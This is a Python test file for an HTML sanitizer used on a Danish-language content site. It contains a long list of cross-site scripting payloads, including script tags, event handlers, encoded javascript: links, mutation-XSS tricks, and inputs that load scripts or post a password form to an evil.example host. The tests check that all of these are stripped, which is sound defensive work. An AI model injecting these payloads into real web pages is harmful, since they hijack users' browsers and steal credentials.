"""No hostile markup survives ``sanitize``; what editors may write keeps its meaning."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.sanitize import LISTS, SCHEMES, sanitize

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script/x>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<img """><script>alert(1)</script>">',
    "<img src='x' srcset='x 1x' onload=alert(1)>",
    "<image href=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="\u200bjavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.org/1">x</a>',
    '<a href="x" onclick="alert(1)">x</a>',
    '<a href="x" style="background:url(javascript:alert(1))">x</a>',
    '<a href="x" target="_blank" ping="https://evil.example/">x</a>',
    "<p onmouseover=alert(1)>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='btn' id='login'>x</p>",
    "<body onload=alert(1)>",
    "<html onfocus=alert(1) autofocus>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>p{background:url('javascript:alert(1)')}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=import href=data:text/html,x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<embed embedtype="media" url="https://evil.example/"/>',
    "<applet code=x></applet>",
    "<form action=https://evil.example/><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>1</option></select>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></animate></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></set></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<p title='</p><img src=x onerror=alert(1)>'>x",
    '<a title="&quot;><img src=x onerror=alert(1)>" href="x">x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is='evil-thing' slot=x part=y>x</p>",
    "<a href='x' id='3' linktype='javascript'>x</a>",
    "<a linktype='page' id='3; drop'>x</a>",
    "<span lang='\"><script>alert(1)</script>'>x</span>",
    "<td colspan='99999999999' onclick=alert(1)>x</td>",
    "<b <script>alert(1)</script>0",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "</script><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script>",
    '<p>www.example.org/"onmouseover=alert(1)</p>',
    "<p>https://example.org/<img src=x onerror=alert(1)></p>",
    "<p>javascript://www.example.org/%0aalert(1)</p>",
    "<b>" * 2000 + "<script>alert(1)</script>",
    "<p>\ud7ff\ufffe<script>alert(1)</script></p>",
]

LEGAL = {
    "<p>Skriv en <b>kvittering</b> inden for <i>en uge</i>.</p>": None,
    "<h2>Regler</h2><h3>§ 19</h3><h4>Stk. 1</h4>": None,
    '<ul><li>en</li><li>to</li></ul><ol start="3"><li>tre</li></ol>': None,
    "<blockquote><p>Barnet skal høres.</p></blockquote><hr>": None,
    "<p>H<sub>2</sub>O og m<sup>2</sup></p>": None,
    '<p lang="kl">Saqqaa <span lang="da">Hjem</span></p>': None,
    '<p><a href="https://nalunaarutit.gl/?a=1&amp;b=2" title="Lov">loven</a></p>': None,
    '<a href="/da/laering/">lektion</a>': None,
    '<a href="#kilder">kilder</a>': None,
    '<a href="mailto:hjaelp@example.org">skriv</a><a href="tel:+299801180">ring</a>': None,
    '<table><caption>Frister</caption><thead><tr><th scope="col">Trin</th></tr></thead>'
    '<tbody><tr><td colspan="2">Kvittering</td></tr></tbody></table>': None,
    "<p>1 &lt; 2 &amp; 3 &gt; 2</p>": None,
    "<p>æøå ÆØÅ ĸ – “citat” 🙂</p>": None,
    "første<br/>anden": "første<br>anden",
    "<p>Se www.example.org.</p>": (
        '<p>Se <a href="https://www.example.org">www.example.org</a>.</p>'
    ),
    "<p>Skriv til hjaelp@example.org</p>": (
        '<p>Skriv til <a href="mailto:hjaelp@example.org">hjaelp@example.org</a></p>'
    ),
    "<p>Det er aftalt.nu skal vi</p>": None,
    "uden markup": None,
    "": None,
}


class Inspector(HTMLParser):
    """Collects what a reader's browser would find that is not on the list."""

    def __init__(self, profile: str) -> None:
        super().__init__()
        self.allowed = LISTS[profile]
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found += [tag] if tag not in self.allowed else []
        for name, value in attrs:
            if name not in self.allowed.get(tag, ()):
                self.found.append(f"{tag} {name}")
            if name == "href":
                scheme = re.match(
                    r"([A-Za-z][A-Za-z0-9+.-]*):", re.sub(r"[\x00-\x20\u200b]", "", value or "")
                )
                if scheme and scheme[1].lower() not in SCHEMES:
                    self.found.append(f"{tag} {value}")

    def handle_comment(self, data):
        self.found.append(f"comment {data}")

    def handle_decl(self, decl):
        self.found.append(f"declaration {decl}")

    def handle_pi(self, data):
        self.found.append(f"instruction {data}")


def escapes(html: str, profile: str) -> list[str]:
    inspector = Inspector(profile)
    inspector.feed(html)
    inspector.close()
    return inspector.found


@pytest.mark.parametrize("profile", ["page", "database"])
@pytest.mark.parametrize("html", HOSTILE, ids=range(len(HOSTILE)))
def test_nothing_hostile_survives(html, profile):
    clean = sanitize(html, profile)

    assert escapes(clean, profile) == []
    assert sanitize(clean, profile) == clean


@pytest.mark.parametrize("code", ["<script>alert(1)</script>", "<style>p{color:red}</style>"])
def test_code_goes_with_its_content(code):
    assert sanitize(f"<p>før</p>{code}<p>efter</p>") == "<p>før</p><p>efter</p>"


@pytest.mark.parametrize(("html", "expected"), LEGAL.items())
def test_what_editors_may_write_keeps_its_meaning(html, expected):
    assert sanitize(html) == (html if expected is None else expected)


def test_links_to_own_pages_and_documents_pass_into_the_database_only():
    html = '<p><a id="3" linktype="page">side</a> <a id="7" linktype="document">fil</a></p>'

    assert sorted(re.findall(r'id="\d"|linktype="\w+"', sanitize(html, "database"))) == sorted(
        re.findall(r'id="\d"|linktype="\w+"', html)
    )
    assert sanitize(html) == "<p><a>side</a> <a>fil</a></p>"


def test_an_embed_is_not_stored():
    html = '<p>x</p><embed embedtype="image" id="1" format="left" alt="x"/>'

    assert sanitize(html, "database") == "<p>x</p>"


PIECES = [
    *["<p>", "</p>", "<b>", "<i>", "</b>", "<a href='", "'", '"', ">", "<", "&", "&lt;", "&#x3c;"],
    *["javascript:", "http://", "www.example.org", "a@example.org", " ", "\x00", "\u00a0", "kl"],
    *["<svg>", "</svg>", "<style>", "</style>", "<math>", "<!--", "-->", "<script>", "<table>"],
    *["<tr>", "<td>", "<li>", "<ol>", "<a id='1' linktype='page'>", "</a>", "<br>", "<h2>"],
]
MARKUP = st.lists(st.sampled_from(PIECES) | st.text(max_size=5), max_size=25).map("".join)


@settings(deadline=None)  # the machine may be busy
@given(MARKUP, st.sampled_from(["page", "database"]))
def test_any_markup_ends_on_the_list_and_twice_is_the_same_as_once(html, profile):
    clean = sanitize(html, profile)

    assert escapes(clean, profile) == []
    assert sanitize(clean, profile) == clean
